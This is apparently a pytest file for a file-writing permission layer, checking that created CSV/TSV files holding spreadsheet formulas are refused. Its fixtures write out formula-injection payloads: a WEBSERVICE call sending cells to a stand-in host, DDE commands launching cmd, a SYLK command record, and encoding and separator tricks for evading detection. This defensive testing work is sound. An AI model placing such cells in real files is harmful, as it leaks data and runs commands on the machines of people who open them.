"""Create-only mode writes data, not formulas: a .csv or .tsv cell a spreadsheet runs.

Probe (probemcp21b): create-only mode (a readonly investigation writing its findings, no
write asked) created findings.csv whose cells were copied from rows anyone may have filled:
``=WEBSERVICE("https://x.example/?"&A2)`` and ``=HYPERLINK(...)`` send the sheet's other
cells away when the user opens the file in Excel or LibreOffice, ``=cmd|'/c calc'!A0`` is DDE.
The same cell quoted, after blanks, led by ``+ - @``, split by the semicolon of a European
locale or by the separator a ``sep=`` line declares, in UTF-16, and in a .tsv. Numbers, a
lone dash and a cell marked as text (``'=1+1``) are still created.

Probe (probemcp21c): a ``sep=|`` line made the check split by ``|`` only, so
``sep=|`` then ``a,=1+1`` was created, though LibreOffice, Google Sheets and Numbers ignore
the line and split by the comma; and a sheet in UTF-16 without a byte-order mark (which
Notepad and LibreOffice detect by its NUL bytes) or in UTF-32 was read as UTF-8, its
``=`` cells being ``\0=``: all three were created. So was a .csv whose text starts with ``ID``,
which Excel opens as SYLK whatever its name, its cell record ``C;Y1;X1;K0;ECMD|...`` a
formula (the E field) though no cell starts with ``= + - @`` however it is split. And the
rows were cut by str.splitlines, which also ends a line at \\v, \\f, \\x1c-\\x1e, NEL and
U+2028/9: ``x<VT>"a,=HYPERLINK(1),"`` is one row to Excel, whose second cell is a formula
(the quote is mid-cell, literal), but the check saw the quote open a field holding
``a,=HYPERLINK(1),``: created.

Probe (redmcp22): the list separators of Arabic and Persian locales, the Arabic semicolon
(U+061B) and comma (U+060C), were not tried: ``bob؛=HYPERLINK(1)`` was created. A full-width
comma (U+FF0C) is no locale's list separator: a cell after one is data."""

from __future__ import annotations

from pathlib import Path

import pytest
from write_backends import KINDS, writer

from rho_domain.errors import PermissionDenied
from rho_domain.permissions import FileWriteMode

FORMULAS = {
    "findings.csv": b'name,total\n=WEBSERVICE("https://x.example/?"&A3),1\nbob,2\n',
    "a.CSV": b'name,total\nbob,"=HYPERLINK(""https://x.example"")"\n',
    "b.csv": b"name,total\nbob,  =cmd|'/c calc'!A0\n",
    "c.csv": b"name;total\nbob;+1+cmd|'/c calc'!A0\n",
    "d.csv": b"sep=|\nname|total\nbob|@SUM(1+1)\n",
    "e.csv": b"name,total\nbob,-2+3\n",
    "f.tsv": b"name\ttotal\nbob\t=1+1\n",
    "g.csv": b"\xef\xbb\xbf=1+1\n",
    "h.csv": "name\ttotal\nbob\t=1+1\n".encode("utf-16"),  # Excel's "Unicode text"
    "i.csv": b"sep=|\nname,total\nbob,=1+1\n",  # sep= ignored by all but Excel
    "j.csv": "name,total\nbob,=1+1\n".encode("utf-16-be"),  # no byte-order mark
    "k.tsv": "name\ttotal\nbob\t=1+1\n".encode("utf-32"),
    "l.csv": b"ID;P\nC;Y1;X1;K0;ECMD|' /C calc'!A0\nE\n",  # SYLK, as Excel sniffs it
    "m.csv": b'x\x0b"a,=HYPERLINK(1),"\n',  # \v ends no row: the quote is mid-cell
    "n.csv": 'x\u2028"a,=HYPERLINK(1),"\n'.encode(),
    # the list separators of Arabic and Persian locales (redmcp22: created before)
    "o.csv": "name\u061btotal\nbob\u061b=HYPERLINK(1)\n".encode(),
    "p.csv": "name\u060ctotal\nbob\u060c=HYPERLINK(1)\n".encode(),
}
DATA = b"name,total,delta,note\nbob,12,-5,-\nann,+1.5e3,-12%,'=1+1\n"


@pytest.mark.parametrize("kind", KINDS)
async def test_a_created_sheet_holds_no_formula(tmp_path: Path, kind: str) -> None:
    executor = writer(kind, tmp_path, FileWriteMode.CREATE_ONLY)
    refused: dict[str, str] = {}
    try:
        for path, data in FORMULAS.items():
            with pytest.raises(PermissionDenied) as caught:
                await executor.write(path, data, overwrite=False)
            refused[path] = str(caught.value)
        await executor.write("report/totals.csv", DATA, overwrite=False)
        assert await executor.read("report/totals.csv") == DATA
        unicode_text = "name\ttotal\nbob\t-5\n-1\t2\n".encode("utf-16")  # NUL bytes, no formula
        await executor.write("report/unicode.tsv", unicode_text, overwrite=False)
        await executor.write("report/ids.csv", b"ID;name\nC;west\n", overwrite=False)
        await executor.write("notes.md", b"=1+1\n", overwrite=False)  # no spreadsheet's
        wide = "名前\uff0c合計\n太郎\uff0c=1\n".encode()  # no locale splits at U+FF0C
        await executor.write("report/wide.csv", wide, overwrite=False)
    finally:
        await executor.aclose()
    for path, message in refused.items():
        assert repr(path) in message
        assert "runs as a formula when the file is opened" in message, message
    assert "row 2, column 1" in refused["findings.csv"]
    assert "row 2, column 2" in refused["c.csv"]
